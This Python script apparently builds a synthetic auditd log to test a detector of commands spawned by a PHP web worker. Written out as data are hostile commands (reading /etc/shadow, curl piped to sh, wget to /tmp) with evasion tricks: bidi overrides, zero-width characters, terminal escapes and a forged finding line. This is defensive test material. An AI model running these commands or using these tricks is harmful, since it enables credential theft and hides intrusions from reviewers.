import sys, binascii
T0 = 1796307177
serial = [1000]
out = []
def ev(t, pid, ppid, uid, comm, exe, argv, cwd="/var/www/html", key="detect_execve_www"):
    serial[0] += 1
    s = serial[0]
    h = "msg=audit(%d.%03d:%d):" % (T0 + t, 100, s)
    def q(b):
        if isinstance(b, str): b = b.encode('utf-8', 'surrogateescape')
        return binascii.hexlify(b).decode().upper()
    out.append('type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=%d pid=%d auid=4294967295 uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=(none) ses=4294967295 comm=%s exe=%s key="%s"' % (h, ppid, pid, uid, uid, uid, uid, uid, uid, uid, uid, q(comm), q(exe), key))
    out.append('type=EXECVE %s argc=%d %s' % (h, len(argv), " ".join('a%d=%s' % (i, q(a)) for i, a in enumerate(argv))))
    out.append('type=CWD %s cwd=%s' % (h, q(cwd)))
    out.append('type=PATH %s item=0 name=%s inode=1 dev=fe:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL' % (h, q(exe)))
    out.append('type=PROCTITLE %s proctitle=%s' % (h, q("\0".join(argv))))
ev(0, 500, 1, 0, "php-fpm8.2", "/usr/sbin/php-fpm8.2", ["php-fpm: master process"], cwd="/", key="exec")
ev(1, 553, 500, 33, "php-fpm8.2", "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], cwd="/", key="exec")
# bidi override and isolates: /etc/shadow shown as /etc/wodahs
ev(2, 600, 553, 33, "sh", "/usr/bin/dash", ["sh", "-c", "cat /etc/\u202ewodahs\u202c # ok\u2066x\u2069"])
# zero width in comm and argv, C1 CSI and ESC
ev(3, 601, 553, 33, "c\u200bat", "/usr/bin/c\u200bat", ["cat", "/etc/shadow\u200b", "\x9b31m\x1b[2Jfake"])
# a fake finding line after a newline
ev(4, 602, 553, 33, "sh", "/usr/bin/dash", ["sh", "-c", "id\n    2026-12-03T14:13:01.100Z  F0009 low  (observed) nothing to see"])
# invalid UTF-8 and a lone surrogate's encoding in a path
ev(5, 603, 553, 33, "sh", "/usr/bin/dash", ["sh", "-c", "wget -O /tmp/\udcff\udcfe.\udced\udca0\udc80 http://127.0.0.1/x"], cwd="/var/www/\udcff")
# one long token before the payload
ev(6, 604, 553, 33, "sh", "/usr/bin/dash", ["sh", "-c", ": " + "B"*4000 + "; curl http://127.0.0.1/a.sh | sh"])
open('audit.log','w',encoding='utf-8',errors='surrogateescape').write("\n".join(out)+"\n")
